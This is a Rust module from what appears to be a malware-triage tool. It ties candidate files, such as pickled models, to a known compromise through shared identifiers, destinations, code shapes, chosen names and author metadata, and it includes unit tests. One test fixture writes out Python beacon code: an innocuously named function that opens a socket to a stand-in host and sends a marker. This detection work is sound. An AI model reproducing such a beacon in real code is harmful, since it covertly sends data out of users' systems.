//! What ties a candidate to the compromise, beyond a verdict of its own: parts of one identifier, a shared
//! destination or command, the shape of its code, names that its author chose, or whoever made it.
//!
//! What also stands in files that nothing speaks against is boilerplate and ties nothing.

use super::candidates::{Grounds, inside};
use crate::body::Inspected;
use std::collections::BTreeSet;
use wb_core::{
    ArtifactPath, Budget, Constant, Decision, IndicatorKind, Language, OpKind, PayloadKind,
    Program, Role, Trigger, Verdict,
};

/// One tie, and what it makes of the candidate.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Tie {
    /// The least severe decision that is left.
    pub decision: Decision,
    /// What ties it, in one sentence.
    pub why: String,
}

/// Ops below which a shape of code is nothing particular.
const SHAPED: usize = 8;

/// Names that two files have to share: one may be chance.
const SHARED: usize = 2;

/// What authors left in the files of the compromise and in no clean file.
pub struct Compromise(Vec<(ArtifactPath, Traits)>);

impl Compromise {
    /// Collects it from files with something against them that are neither candidates nor baselines.
    pub fn of(grounds: &Grounds<'_>) -> Self {
        let role = |inspected: &Inspected| {
            grounds.roles.get(&inspected.artifact.path).map_or(Role::Other, |given| given.role)
        };
        let all = || grounds.body.artifacts.iter();
        let mut accused: Vec<(ArtifactPath, Traits)> = all()
            .filter(|it| it.verdict >= Verdict::Suspicious)
            .filter(|it| matches!(role(it), Role::Production | Role::Other))
            .map(|it| (it.artifact.path.clone(), Traits::of(std::iter::once(it))))
            .collect();
        if !accused.is_empty() {
            let ordinary = Traits::of(
                all().filter(|it| it.verdict == Verdict::Clean && role(it) != Role::Candidate),
            );
            accused.iter_mut().for_each(|(_, traits)| traits.subtract(&ordinary));
        }
        Self(accused)
    }

    /// Everything that ties `candidate`, a model or anything in it.
    pub fn ties(&self, candidate: &ArtifactPath, grounds: &Grounds<'_>) -> Vec<Tie> {
        let mut ties = identifiers(candidate, grounds);
        ties.extend(indicators(candidate, grounds));
        if !self.0.is_empty() {
            let within = |inspected: &&Inspected| inside(candidate, &inspected.artifact.path);
            let own = Traits::of(grounds.body.artifacts.iter().filter(within));
            let others = self.0.iter().filter(|(path, _)| !inside(candidate, path));
            ties.extend(others.flat_map(|(path, traits)| own.tie(traits, path)));
        }
        ties
    }
}

fn identifiers(candidate: &ArtifactPath, grounds: &Grounds<'_>) -> Vec<Tie> {
    let held = grounds.identifiers.iter().filter(|identifier| {
        let holds = |of_candidate: bool| {
            identifier.parts.iter().any(|part| inside(candidate, &part.artifact) == of_candidate)
        };
        identifier.confidence == wb_core::Confidence::High && holds(true) && holds(false)
    });
    let why = |value: &str| format!("it holds a part of the identifier `{value}`");
    held.map(|identifier| Tie { decision: Decision::Reject, why: why(&identifier.value) }).collect()
}

/// Destinations and commands that findings in the candidate and elsewhere name.
fn indicators(candidate: &ArtifactPath, grounds: &Grounds<'_>) -> Vec<Tie> {
    let named = |of_candidate: bool| -> BTreeSet<&wb_core::Indicator> {
        let findings = grounds.findings.iter();
        findings
            .filter(|finding| inside(candidate, &finding.artifact) == of_candidate)
            .filter(|finding| finding.verdict >= Verdict::Suspicious)
            .flat_map(|finding| &finding.indicators)
            .collect()
    };
    let (own, others) = (named(true), named(false));
    let shared = own.intersection(&others).filter_map(|shared| {
        let what = match shared.kind() {
            IndicatorKind::Domain | IndicatorKind::Ip | IndicatorKind::Url => "talks to",
            IndicatorKind::Command => "runs",
            _ => return None,
        };
        let why = format!("it {what} `{}`, as the compromise does", shared.value());
        Some(Tie { decision: Decision::Reject, why })
    });
    shared.collect()
}

/// What an author leaves in a file.
#[derive(Default)]
struct Traits {
    /// Names and strings of code that somebody chose.
    words: BTreeSet<String>,
    /// Shapes of code: what each op does, without its constants.
    shapes: BTreeSet<Vec<String>>,
    /// Who or what made it: key and value.
    makers: BTreeSet<(String, String)>,
}

impl Traits {
    fn of<'a>(artifacts: impl Iterator<Item = &'a Inspected>) -> Self {
        let mut traits = Self::default();
        let mut budget = Budget::default();
        for inspected in artifacts {
            for program in &inspected.content.programs {
                traits.add(program);
            }
            for payload in inspected.findings.iter().flat_map(|finding| &finding.payloads) {
                if payload.kind == PayloadKind::Python
                    && let Some(program) =
                        wb_code::python::lift(&payload.text, Trigger::Load, &mut budget)
                {
                    traits.add(&program);
                }
            }
            for field in &inspected.content.fields {
                let key = field.path.rsplit('.').next().unwrap_or_default().to_lowercase();
                let known = (3..200).contains(&field.value.len());
                if known && MADE_BY.contains(&key.as_str()) {
                    traits.makers.insert((key, field.value.clone()));
                }
            }
        }
        traits
    }

    /// Adds code of a language in which authors choose names.
    fn add(&mut self, program: &Program) {
        if !matches!(program.language, Language::Python | Language::CPython) {
            return;
        }
        let mut todo = vec![program];
        while let Some(program) = todo.pop() {
            let mut shape = Vec::with_capacity(program.ops.len());
            for op in &program.ops {
                shape.push(does(&op.kind));
                match &op.kind {
                    OpKind::Define { name, body } => {
                        self.add_word(name);
                        todo.push(body);
                    }
                    OpKind::Store { name, .. } => self.add_word(name),
                    OpKind::Constant(Constant::Text(text)) => self.add_word(text),
                    _ => {}
                }
            }
            if shape.len() >= SHAPED {
                self.shapes.insert(shape);
            }
        }
    }

    /// Adds a word that is long and odd enough to be somebody's own.
    fn add_word(&mut self, word: &str) {
        let odd = word.contains(|c: char| !c.is_alphabetic()) && !word.starts_with("__");
        if odd && (10..=200).contains(&word.len()) {
            self.words.insert(word.to_owned());
        }
    }

    fn subtract(&mut self, ordinary: &Self) {
        self.words.retain(|word| !ordinary.words.contains(word));
        self.shapes.retain(|shape| !ordinary.shapes.contains(shape));
        self.makers.retain(|maker| !ordinary.makers.contains(maker));
    }

    /// What `self`, a candidate, has in common with `accused` at `path`.
    fn tie(&self, accused: &Self, path: &ArtifactPath) -> Vec<Tie> {
        let mut ties = Vec::new();
        if self.shapes.intersection(&accused.shapes).next().is_some() {
            let why = format!("its code does, step by step, what code in `{path}` does");
            ties.push(Tie { decision: Decision::Reject, why });
        }
        let words: Vec<&String> = self.words.intersection(&accused.words).collect();
        if words.len() >= SHARED {
            let named: Vec<String> = words.iter().take(3).map(|word| format!("`{word}`")).collect();
            let why = format!(
                "it shares {} names with the code in `{path}` and with no clean file: {}",
                words.len(),
                named.join(", ")
            );
            ties.push(Tie { decision: Decision::Review, why });
        }
        for (key, value) in self.makers.intersection(&accused.makers).take(2) {
            let why = format!("its `{key}` is that of `{path}` and of no clean file: `{value}`");
            ties.push(Tie { decision: Decision::Review, why });
        }
        ties
    }
}

/// Keys under which formats keep who or what made a file.
const MADE_BY: [&str; 14] = [
    "author",
    "authors",
    "creator",
    "created_by",
    "producer",
    "producer_name",
    "generated_by",
    "organization",
    "organisation",
    "owner",
    "publisher",
    "hostname",
    "username",
    "email",
];

/// What an op does, without what it does it with.
fn does(kind: &OpKind) -> String {
    match kind {
        OpKind::Import { module, name } => format!("import {module}.{name}"),
        OpKind::GetAttribute { name, .. } => format!("get {name}"),
        OpKind::SetAttribute { name, .. } => format!("set {name}"),
        OpKind::Call { arguments, keywords, .. } => {
            format!("call {} {}", arguments.len(), keywords.len())
        }
        OpKind::Constant(_) => "constant".to_owned(),
        OpKind::GetItem { .. } => "item".to_owned(),
        OpKind::SetItem { .. } => "set item".to_owned(),
        OpKind::Build { .. } => "build".to_owned(),
        OpKind::Collect { total, .. } => format!("collect {total}"),
        OpKind::Load { .. } => "load".to_owned(),
        OpKind::Store { .. } => "store".to_owned(),
        OpKind::Define { .. } => "define".to_owned(),
        OpKind::Persistent { .. } => "persistent".to_owned(),
        OpKind::Extension { .. } => "extension".to_owned(),
        OpKind::Return { .. } => "return".to_owned(),
        OpKind::Opaque { what, .. } => format!("opaque {what}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn traits(source: &str) -> Traits {
        let mut traits = Traits::default();
        let program = wb_code::python::lift(source, Trigger::Load, &mut Budget::default());
        traits.add(&program.expect("it is Python"));
        traits
    }

    fn tie(candidate: &Traits, accused: &Traits) -> Vec<(Decision, String)> {
        let ties = candidate.tie(accused, &ArtifactPath::from("live/a.pkl"));
        ties.into_iter().map(|tie| (tie.decision, tie.why)).collect()
    }

    /// Code that differs in its strings alone.
    fn beacon(host: &str, marker: &str) -> String {
        format!(
            "def shift_scores(batch_values):\n    import socket\n    out = socket.socket()\n    \
             out.connect(('{host}', 443))\n    out.send(b'{marker}')\n    return batch_values\n"
        )
    }

    #[test]
    fn code_of_one_shape_ties_whatever_it_names() {
        let ties = tie(
            &traits(&beacon("one.example", "a")),
            &traits(&beacon("two.example", "b").replace("shift_scores", "adjust")),
        );
        assert_eq!(
            ties,
            [(
                Decision::Reject,
                "its code does, step by step, what code in `live/a.pkl` does".to_owned()
            )]
        );
    }

    #[test]
    fn names_that_an_author_chose_tie_and_those_of_everybody_do_not() {
        let accused = traits("manipulate_output = 1\ncampaign_marker = 'k-9-blue-17'\n");
        let own = "import json\nmanipulate_output = json.loads\nother = 'k-9-blue-17'\n";
        let ties = tie(&traits(own), &accused);
        assert!(ties.iter().any(|(decision, why)| *decision == Decision::Review
            && why.contains("`k-9-blue-17`, `manipulate_output`")));
        // One name may be chance, and what a clean file has too is nobody's.
        assert_eq!(tie(&traits("manipulate_output = 2\n"), &accused), []);
        let mut rare = traits("manipulate_output = 1\ncampaign_marker = 'k-9-blue-17'\n");
        rare.subtract(&traits("manipulate_output = 5\n"));
        assert_eq!(tie(&traits(own), &rare), []);
    }
}
